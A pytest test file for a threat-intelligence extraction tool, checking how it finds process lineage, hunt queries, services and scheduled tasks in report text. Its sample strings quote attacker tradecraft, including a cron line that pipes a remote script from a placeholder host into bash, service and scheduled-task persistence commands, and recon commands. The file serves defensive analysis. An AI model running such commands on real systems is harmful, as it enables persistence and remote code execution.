"""The pre-extractor's finders for process lineage, hunt queries, services and scheduled tasks, and the
sentence splitter rank evidence is chosen from: realistic article text, including what scraped HTML leaves."""

from __future__ import annotations

import pytest

from ctistudio.pipeline.hunt_queries import classify_query, find_hunt_queries
from ctistudio.pipeline.preextract import pre_extract
from ctistudio.pipeline.sentences import split_sentences
from ctistudio.resources import demo_article


def lineage(text: str) -> list[str]:
    return [c.value for c in pre_extract(text).of("lineage")]


def named(text: str, kind: str) -> list[tuple[str, dict[str, str]]]:
    return [(c.value, c.attribute_map()) for c in pre_extract(text).of(kind)]


# -- process lineage ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Upon opening, WINWORD.EXE launched cmd.exe which then started powershell.exe.",
            ["WINWORD.EXE → cmd.exe", "cmd.exe → powershell.exe"],
        ),
        ("We observed powershell.exe with a parent process of w3wp.exe on the server.", ["w3wp.exe → powershell.exe"]),
        ("`mshta.exe` as a child of `ONENOTE.EXE`.", ["ONENOTE.EXE → mshta.exe"]),
        ("The installer msiexec.exe was run by explorer.exe.", ["explorer.exe → msiexec.exe"]),
        (
            "The chain was excel.exe -> rundll32.exe -> regsvr32.exe, as seen in telemetry.",
            ["excel.exe → rundll32.exe", "rundll32.exe → regsvr32.exe"],
        ),
        ("sqlservr.exe spawned a child process, cmd.exe, which wrote a file.", ["sqlservr.exe → cmd.exe"]),
    ],
)
def test_lineage_stated_in_prose(text, expected):
    assert lineage(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "The actor ran rundll32.exe after mshta.exe finished.",  # order of events is not lineage
        "powershell.exe was executed, and later regsvr32.exe loaded the DLL.",
        "Use rundll32.exe and regsvr32.exe to execute DLLs.",
        "An obfuscated PowerShell command that created a scheduled task: schtasks /create /tn x /tr y.exe",
        "1a2b3c4d-0000-4000-8000-000000000000 : Recon Via Wmic.EXE\n5e6f7a8b-0000-4000-8000-000000000000 : "
        "Suspicious File Created Via OneNote Application",  # a list of rule titles
        "The ccs.exe binary was subsequently executed with MSBuild.exe as the parent process.",
    ],
)
def test_lineage_is_never_inferred_from_mere_mentions(text):
    assert lineage(text) == []


def test_lineage_from_process_tree_notation():
    text = (
        "Process tree:\n\nexplorer.exe\n└── winword.exe\n    └── cmd.exe /c start update.exe\n"
        "        └── update.exe\n└── notepad.exe\n\nNested list form:\n\n- svchost.exe\n  - wmiprvse.exe\n"
        "    - powershell.exe\n"
    )
    assert sorted(lineage(text)) == [
        "cmd.exe → update.exe",
        "explorer.exe → notepad.exe",
        "explorer.exe → winword.exe",
        "svchost.exe → wmiprvse.exe",
        "winword.exe → cmd.exe",
        "wmiprvse.exe → powershell.exe",
    ]


def test_a_code_block_of_commands_is_not_a_tree():
    text = "```\ncmd.exe /c whoami\n  powershell.exe -nop -c Get-Process\nnet.exe user\n```\n"
    assert "cmd.exe → powershell.exe" not in lineage(text)


def test_lineage_from_command_lines_and_an_introduced_block():
    values = lineage(demo_article())
    assert values[:2] == ["ONENOTE.EXE → mshta.exe", "mshta.exe → powershell.exe"]
    # "… each as a child of rundll32.exe:" followed by the block of cmd.exe commands
    assert "rundll32.exe → cmd.exe" in values
    assert {"cmd.exe → whoami.exe", "cmd.exe → nltest.exe", "cmd.exe → ipconfig.exe"} <= set(values)
    assert "WmiPrvSE.exe → rundll32.exe" in values  # wmic … process call create "rundll32.exe …"
    assert "cmd.exe → echo.exe" not in lineage("cmd.exe /c echo hello > C:\\x.txt")  # a shell built-in


def test_lineage_candidates_name_parent_and_child():
    [pair] = pre_extract("C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\run.exe -s").of("lineage")
    assert pair.attribute_map() == {"parent": "cmd.exe", "child": "run.exe"}


# -- hunt queries -----------------------------------------------------------------------------------------
def test_unfenced_multi_line_queries_from_scraped_html():
    text = (
        'Hunting query:\nDeviceProcessEvents\n| where FileName =~ "rundll32.exe"\n'
        '| where ProcessCommandLine has "comsvcs"\n| project Timestamp, DeviceName\n\nThis finds dumps.\n\n'
        'Use this Splunk search:\nindex=windows EventCode=4688 New_Process_Name="*\\\\mshta.exe"\n'
        "| stats count by host\nIt finds mshta.\n\n"
        'EQL:\nsequence by host.id with maxspan=1m\n  [process where process.name == "winword.exe"]\n'
        '  [process where process.name == "cmd.exe"]\n'
    )
    found = find_hunt_queries(text)
    assert [q.language for q in found] == ["kql", "spl", "eql"]
    assert found[0].value.endswith("| project Timestamp, DeviceName")
    assert found[1].value.endswith("| stats count by host")
    assert found[2].value.count("[process where") == 2
    assert all(text[q.start : q.end] == q.value for q in found)


def test_inline_and_tagged_queries_but_not_scripts_or_prose():
    assert [
        (q.language, q.value) for q in find_hunt_queries('Run `DeviceNetworkEvents | where RemoteUrl has "x"`.')
    ] == [("kql", 'DeviceNetworkEvents | where RemoteUrl has "x"')]
    assert find_hunt_queries("```kql\nSecurityEvent | where EventID == 4688\n```")[0].language == "kql"
    assert find_hunt_queries("```powershell\nGet-Process | where {$_.Name -eq 'x'}\n```") == []
    assert find_hunt_queries("The index = 5 and the event was seen. Windows Defender blocked it.") == []
    assert classify_query('process where process.name == "cmd.exe"') == "eql"


def test_commands_inside_a_query_are_not_command_lines():
    text = 'DeviceProcessEvents\n| where ProcessCommandLine has "cmd.exe /c whoami /all"\n'
    found = pre_extract(text)
    assert len(found.of("hunt_query")) == 1 and found.of("cmdline") == []


# -- services and scheduled tasks ---------------------------------------------------------------------------
def test_services_from_commands_events_keys_and_prose():
    text = (
        'sc \\\\HOST01 create "Update Agent" binPath= "C:\\Temp\\agent.exe -k" start= auto\n'
        "New-Service -Name WinSvcHost -BinaryPathName 'C:\\ProgramData\\svc.exe' -StartupType Automatic\n"
        "A service was installed in the system.\nService Name: PSEXESVC\n"
        "Service File Name: %SystemRoot%\\PSEXESVC.exe\n"
        "Service Type: user mode service\n\n"
        "Event 7045: Service Name: evilsvc Service File Name: C:\\evil.exe Service Type: kernel mode driver\n"
        'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\Backdoor /v ImagePath /t REG_EXPAND_SZ /d "C:\\bd.exe" /f\n'
        "The attackers installed a service named `WinUpdate` on each host.\n"
    )
    assert named(text, "service") == [
        ("Update Agent", {"image_path": "C:\\Temp\\agent.exe -k"}),
        ("WinSvcHost", {"image_path": "C:\\ProgramData\\svc.exe"}),
        ("PSEXESVC", {"image_path": "%SystemRoot%\\PSEXESVC.exe"}),
        ("evilsvc", {"image_path": "C:\\evil.exe"}),
        ("Backdoor", {"image_path": "C:\\bd.exe"}),
        ("WinUpdate", {}),
    ]
    assert named("The service is started with sc start foo. It uses the Services key.", "service") == []


def test_scheduled_tasks_from_commands_xml_files_events_prose_and_cron():
    text = (
        'schtasks.exe /create /sc onlogon /tn "\\Microsoft\\Windows\\Update\\Checker" /tr "C:\\Users\\Public\\a.exe" '
        "/ru SYSTEM\n"
        "Register-ScheduledTask -TaskName 'OneDrive Sync' -Action $action -Trigger $trigger\n"
        '<Task version="1.2"><RegistrationInfo><URI>\\GoogleUpdateTaskMachine</URI></RegistrationInfo>'
        "<Actions><Exec><Command>C:\\Users\\x\\up.exe</Command><Arguments>-run</Arguments></Exec></Actions></Task>\n"
        "It dropped C:\\Windows\\System32\\Tasks\\MicrosoftEdgeUpdateCore on disk.\n"
        "Event 4698: Task Name: \\SystemHealthCheck\tTask Content: <Task/>\n"
        'A scheduled task called "Adobe Flash Sync" was created.\n'
        "crontab entry:\n*/5 * * * * curl -s http://x.example/a.sh | bash\n2024 10 14 12 30 was a Monday\n"
    )
    assert named(text, "scheduled_task") == [
        ("\\Microsoft\\Windows\\Update\\Checker", {"command": "C:\\Users\\Public\\a.exe"}),
        ("OneDrive Sync", {}),
        ("\\GoogleUpdateTaskMachine", {"command": "C:\\Users\\x\\up.exe -run"}),
        ("MicrosoftEdgeUpdateCore", {}),
        ("\\SystemHealthCheck", {}),
        ("Adobe Flash Sync", {}),
        ("*/5 * * * * curl -s http://x.example/a.sh | bash", {}),
    ]


# -- sentences ------------------------------------------------------------------------------------------------
def test_sentences_keep_offsets_and_split_code_lines_and_list_items():
    article = demo_article()
    sentences = split_sentences(article)
    assert [s.number for s in sentences] == list(range(1, len(sentences) + 1))
    assert all(" ".join(article[s.start : s.end].split()) == s.text for s in sentences)
    texts = [s.text for s in sentences]
    assert "cmd.exe /c whoami /all" in texts and "cmd.exe /c ipconfig /all" in texts
    assert "1. `mshta.exe` as a child of `ONENOTE.EXE`." in texts
    assert "We track the cluster as PAPER LANTERN." in texts
    assert next(s for s in sentences if s.text == "cmd.exe /c whoami /all").code


def test_a_wall_of_flattened_text_is_cut_into_bounded_units():
    wall = "word " * 400
    assert all(len(s.text) <= 500 for s in split_sentences(wall))
